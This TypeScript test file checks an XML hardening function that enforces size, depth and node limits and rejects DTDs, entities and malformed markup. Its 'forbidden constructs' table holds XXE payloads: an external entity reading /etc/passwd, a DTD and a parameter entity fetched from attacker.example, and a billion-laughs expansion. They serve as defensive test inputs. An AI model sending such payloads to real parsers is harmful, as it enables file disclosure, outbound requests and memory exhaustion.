import { readFileSync, readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { DomainError } from '../errors.js';
import { DEFAULT_XML_LIMITS, assertSafeXml } from './harden.js';

const FIXTURES = fileURLToPath(new URL('../../test/fixtures/edxml/', import.meta.url));

/** Runs assertSafeXml and returns the DomainError code it threw (fails the test if it did not throw one). */
function codeOf(input: Buffer | string, limits?: Parameters<typeof assertSafeXml>[1]): string {
  try {
    assertSafeXml(input, limits);
  } catch (e) {
    if (e instanceof DomainError) return e.code;
    throw e;
  }
  throw new Error('assertSafeXml accepted the input');
}

/** The DomainError assertSafeXml threw. */
function domainError(fn: () => unknown): DomainError {
  try {
    fn();
  } catch (e) {
    if (e instanceof DomainError) return e;
    throw e;
  }
  throw new Error('no DomainError was thrown');
}

/** Elapsed milliseconds of fn, which must throw the expected code. */
function timedCode(input: Buffer | string, limits?: Parameters<typeof assertSafeXml>[1]): { code: string; ms: number } {
  const t0 = performance.now();
  const code = codeOf(input, limits);
  return { code, ms: performance.now() - t0 };
}

describe('assertSafeXml: accepted input', () => {
  const wellFormed = readdirSync(FIXTURES).filter((f) => f.endsWith('.edxml') && !f.startsWith('invalid'));

  it.each(wellFormed)('accepts the reference sample %s unchanged', (file) => {
    const bytes = readFileSync(FIXTURES + file);
    expect(assertSafeXml(bytes)).toBe(bytes.toString('utf8'));
  });

  it('refuses the sample that uses an undeclared xlink prefix', () => {
    expect(codeOf(readFileSync(`${FIXTURES}invalid_edoc_variant_unbound_xlink.edxml`))).toBe('XML_MALFORMED');
  });

  it('has the documented defaults', () => {
    expect(DEFAULT_XML_LIMITS).toEqual({ maxBytes: 50 * 1024 * 1024, maxDepth: 256, maxNodes: 500_000, maxAttributesPerElement: 64 });
  });

  describe('node counts (issue 11: a DOM costs ~225 bytes of heap per input byte)', () => {
    it('refuses an element flood past maxNodes, and stops reading there', () => {
      const flood = `<r>${'<a/>'.repeat(600_000)}</r>`;
      const error = domainError(() => assertSafeXml(flood));
      expect(error.code).toBe('XML_FORBIDDEN');
      expect(error.message).toMatch(/more than 500000 elements, attributes and text nodes/);
      // The offset in the message shows where it stopped: about 500,000 × 4 characters in.
      expect(Number(/at offset (\d+)/.exec(error.message)?.[1])).toBeLessThan(2_000_010);
    });

    it('counts text nodes, attributes, comments and CDATA sections too', () => {
      expect(codeOf('<r>a<b/>b<b/>c</r>', { maxNodes: 5 })).toBe('XML_FORBIDDEN'); // r, 3 texts, 2 b = 6
      expect(() => assertSafeXml('<r>a<b/>b<b/>c</r>', { maxNodes: 6 })).not.toThrow();
      expect(codeOf('<r x="1" y="2"/>', { maxNodes: 2 })).toBe('XML_FORBIDDEN');
      expect(() => assertSafeXml('<r x="1" y="2"/>', { maxNodes: 3 })).not.toThrow();
      expect(codeOf('<r><!--c--><![CDATA[d]]></r>', { maxNodes: 2 })).toBe('XML_FORBIDDEN');
      expect(() => assertSafeXml('<r><!--c--><![CDATA[d]]></r>', { maxNodes: 3 })).not.toThrow();
    });

    it('refuses an attribute flood on one element', () => {
      const attrs = Array.from({ length: 200_000 }, (_, i) => ` a${i}="x"`).join('');
      expect(domainError(() => assertSafeXml(`<r${attrs}/>`)).message).toMatch(/more than 64 attributes on <r>/);
      const sixtyFour = Array.from({ length: 64 }, (_, i) => ` a${i}="x"`).join('');
      expect(() => assertSafeXml(`<r${sixtyFour}/>`)).not.toThrow();
      expect(codeOf(`<r${sixtyFour} z="1"/>`)).toBe('XML_FORBIDDEN');
    });

    it('rejects limits that are not positive integers', () => {
      expect(() => assertSafeXml('<a/>', { maxNodes: 0 })).toThrow(RangeError);
      expect(() => assertSafeXml('<a/>', { maxAttributesPerElement: 1.5 })).toThrow(RangeError);
    });
  });

  it('removes a UTF-8 BOM', () => {
    const doc = '<?xml version="1.0" encoding="UTF-8"?><a>ă</a>';
    expect(assertSafeXml(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(doc)]))).toBe(doc);
    expect(assertSafeXml(`\uFEFF${doc}`)).toBe(doc);
  });

  it('removes stray bytes before <?xml, even when they are not UTF-8', () => {
    const doc = '<?xml version="1.0"?>\n<a/>';
    expect(assertSafeXml(`1212${doc}`)).toBe(doc);
    expect(assertSafeXml(Buffer.concat([Buffer.from([0xff, 0xfe, 0x31]), Buffer.from(doc)]))).toBe(doc);
  });

  it('accepts attribute values holding > and the other quote, and markup-looking text in comments and CDATA', () => {
    const doc =
      `<a x="1 > 0" y='say "hi"' z="it's">` +
      '<!-- <!DOCTYPE x> <b> --><![CDATA[<!ENTITY e "x"> </a> <?pi?>]]>' +
      '&amp;&lt;&gt;&quot;&apos;&#65;&#x1F600;</a>';
    expect(assertSafeXml(doc)).toBe(doc);
  });

  it('accepts astral characters (surrogate pairs) in strings', () => {
    expect(assertSafeXml('<a t="\u{1F389}">\u{1F389}\u{20000}</a>')).toBe('<a t="\u{1F389}">\u{1F389}\u{20000}</a>');
  });

  it('accepts comments and whitespace around the root', () => {
    expect(() => assertSafeXml('<?xml version="1.0"?>\n<!-- before -->\n<a/>\n<!-- after -->\n')).not.toThrow();
  });

  it('accepts nesting exactly at maxDepth', () => {
    expect(() => assertSafeXml('<a>'.repeat(5) + '</a>'.repeat(5), { maxDepth: 5 })).not.toThrow();
  });

  it('accepts declared prefixes, including on the same element and xml:', () => {
    expect(() => assertSafeXml('<p:a xmlns:p="urn:p" p:x="1" xml:lang="vi"><p:b/></p:a>')).not.toThrow();
  });
});

describe('assertSafeXml: size', () => {
  it('refuses a Buffer over maxBytes with PAYLOAD_TOO_LARGE', () => {
    expect(codeOf(Buffer.from('<a>0123456789</a>'), { maxBytes: 10 })).toBe('PAYLOAD_TOO_LARGE');
  });

  it('counts UTF-8 bytes, not characters, for strings', () => {
    const doc = `<a>${'đ'.repeat(10)}</a>`; // 17 chars, 27 bytes
    expect(doc.length).toBeLessThan(20);
    expect(codeOf(doc, { maxBytes: 20 })).toBe('PAYLOAD_TOO_LARGE');
    expect(() => assertSafeXml(doc, { maxBytes: 27 })).not.toThrow();
  });

  it('refuses a body over the default limit before looking at it', () => {
    const body = Buffer.alloc(DEFAULT_XML_LIMITS.maxBytes + 1, 0x20); // not even XML: size comes first
    const { code, ms } = timedCode(body);
    expect(code).toBe('PAYLOAD_TOO_LARGE');
    expect(ms).toBeLessThan(1000);
  });

  it('rejects nonsensical limits', () => {
    expect(() => assertSafeXml('<a/>', { maxDepth: 0 })).toThrow(RangeError);
    expect(() => assertSafeXml('<a/>', { maxBytes: -1 })).toThrow(RangeError);
  });
});

describe('assertSafeXml: forbidden constructs', () => {
  it.each([
    ['internal entity', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'],
    ['external entity', '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>'],
    ['external DTD', '<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><a/>'],
    ['parameter entity', '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]><a/>'],
    [
      'billion laughs',
      '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
        '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]><lolz>&lol3;</lolz>',
    ],
    ['lower-case doctype', '<!doctype a><a/>'],
    ['ENTITY inside the root', '<a><!ENTITY e "x"></a>'],
    ['ELEMENT declaration', '<a><!ELEMENT a ANY></a>'],
    ['ATTLIST declaration', '<!ATTLIST a id ID #IMPLIED><a/>'],
    ['NOTATION declaration', '<a><!NOTATION n SYSTEM "x"></a>'],
    ['stylesheet PI', '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>'],
    ['PI inside the root', '<a><?php echo 1; ?></a>'],
    ['a second XML declaration', '<a/><?xml version="1.0"?>'],
    ['two roots', '<a/><b/>'],
    ['two roots after comments', '<a></a><!-- x --><a></a>'],
    ['text before the root', 'x<a/>'.replace('x', '<!-- c -->x')],
    ['text after the root', '<a/>trailing'],
    ['entity reference after the root', '<a/>&amp;'],
    ['CDATA outside the root', '<a/><![CDATA[x]]>'],
  ])('refuses %s with XML_FORBIDDEN', (_name, doc) => {
    expect(codeOf(doc)).toBe('XML_FORBIDDEN');
  });

  it('refuses nesting one level deeper than maxDepth', () => {
    expect(codeOf('<a>'.repeat(6) + '</a>'.repeat(6), { maxDepth: 5 })).toBe('XML_FORBIDDEN');
  });

  it('refuses 10,000-deep nesting quickly, without recursion', () => {
    const { code, ms } = timedCode('<a>'.repeat(10_000) + '</a>'.repeat(10_000));
    expect(code).toBe('XML_FORBIDDEN');
    expect(ms).toBeLessThan(1000);
  });

  it('refuses self-closing siblings only for the root, not for children', () => {
    expect(() => assertSafeXml('<r><a/><a/></r>')).not.toThrow();
    expect(codeOf('<a/><a/>')).toBe('XML_FORBIDDEN');
  });
});

describe('assertSafeXml: malformed input', () => {
  it.each([
    ['empty input', ''],
    ['no markup', 'just text'],
    ['unclosed root', '<a><b></b>'],
    ['mismatched end tag', '<a><b></a></b>'],
    ['stray end tag', '</a>'],
    ['< in attribute value', '<a x="<b>"/>'],
    ['attribute value that hides a tag after >', '<a x="><b>"/>'],
    ['unquoted attribute', '<a x=1/>'],
    ['duplicate attribute', '<a x="1" x="2"/>'],
    ['attributes without whitespace', '<a x="1"y="2"/>'],
    ['undefined entity', '<a>&nbsp;</a>'],
    ['bare ampersand', '<a>fish & chips</a>'],
    ['entity in attribute', '<a x="&e;"/>'],
    ['char ref to NUL', '<a>&#0;</a>'],
    ['char ref to a surrogate', '<a>&#xD800;</a>'],
    ['control character', '<a>\u0001</a>'],
    ['U+FFFF', '<a>\uFFFF</a>'],
    ['lone high surrogate', '<a>\uD800</a>'],
    ['lone low surrogate', '<a>\uDC00x</a>'],
    ['high surrogate at the very end', '<a/>\uD83D'],
    ['swapped surrogate pair', '<a>\uDE00\uD83D</a>'],
    [']]> in text', '<a>]]></a>'],
    ['unterminated comment', '<a><!-- x</a>'],
    ['double hyphen in comment', '<a><!-- a -- b --></a>'],
    ['unterminated CDATA', '<a><![CDATA[x</a>'],
    ['unbound element prefix', '<p:a/>'],
    ['unbound attribute prefix', '<a xlink:href="#x"/>'],
    ['prefix used outside its scope', '<a><b xmlns:p="urn:p"/><p:c/></a>'],
    ['undeclaring a prefix', '<a xmlns:p=""/>'],
    ['XML 1.1 declaration', '<?xml version="1.1"?><a/>'],
    ['non-UTF-8 encoding', '<?xml version="1.0" encoding="ISO-8859-1"?><a/>'],
    ['broken XML declaration', '<?xml versio="1.0"?><a/>'],
    ['bad start of tag', '<a>< b/></a>'],
    ['unterminated start tag', '<a x="1"'],
  ])('refuses %s with XML_MALFORMED', (_name, doc) => {
    expect(codeOf(doc)).toBe('XML_MALFORMED');
  });

  it('refuses invalid UTF-8 inside the document', () => {
    expect(codeOf(Buffer.concat([Buffer.from('<a>'), Buffer.from([0xc3, 0x28]), Buffer.from('</a>')]))).toBe('XML_MALFORMED');
  });

  it('refuses UTF-16 input', () => {
    expect(codeOf(Buffer.from('\uFEFF<a/>', 'utf16le'))).toBe('XML_MALFORMED');
  });

  it('names the offset of the problem', () => {
    expect(() => assertSafeXml('<a><b></a>')).toThrow(/does not match <b>.*offset 6/);
  });
});

describe('assertSafeXml: linear time on crafted inputs', () => {
  it('many attributes followed by a long text node', () => {
    const attrs = Array.from({ length: 20_000 }, (_, i) => ` a${i}="v"`).join('');
    const doc = `<r${attrs}>${'x'.repeat(5_000_000)}&amp;</r>`;
    const t0 = performance.now();
    expect(() => assertSafeXml(doc, { maxAttributesPerElement: 20_000 })).not.toThrow();
    expect(performance.now() - t0).toBeLessThan(2000); // quadratic behaviour would take minutes
  });

  it('many small text nodes with one far ampersand', () => {
    const doc = `<r>${'<a>x</a>'.repeat(200_000)}&amp;</r>`;
    const t0 = performance.now();
    expect(() => assertSafeXml(doc)).not.toThrow();
    expect(performance.now() - t0).toBeLessThan(2000); // quadratic behaviour would take minutes
  });
});
